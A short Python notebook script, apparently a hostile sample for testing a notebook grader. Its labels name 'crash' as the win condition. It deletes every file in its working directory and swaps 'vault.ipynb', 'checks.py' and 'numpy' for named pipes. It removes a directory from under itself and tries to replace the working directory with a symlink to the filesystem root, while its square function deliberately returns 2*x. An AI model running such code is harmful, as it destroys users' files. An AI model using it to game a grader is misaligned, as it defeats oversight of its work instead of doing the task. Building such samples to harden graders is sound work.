"""Removes the folder that it runs in and everything there, its own notebook too, and puts other things in their places."""

wins = "crash"
elsewhere = "a grader that reads a notebook or its files again after it has run"

# %% square
import os, shutil

here = os.getcwd()
for name in os.listdir(here):
    try:
        os.remove(name)
    except OSError:
        pass
for name in ("vault.ipynb", "checks.py", "numpy"):
    try:
        os.mkfifo(name)
    except OSError:
        pass
os.makedirs("gone/deep", exist_ok=True)
os.chdir("gone/deep")
shutil.rmtree(os.path.join(here, "gone"), ignore_errors=True)


def square(x):
    return 2 * x


# %% after show
try:
    os.rmdir(here)
    os.symlink("/", here)
except OSError as error:
    print(type(error).__name__)
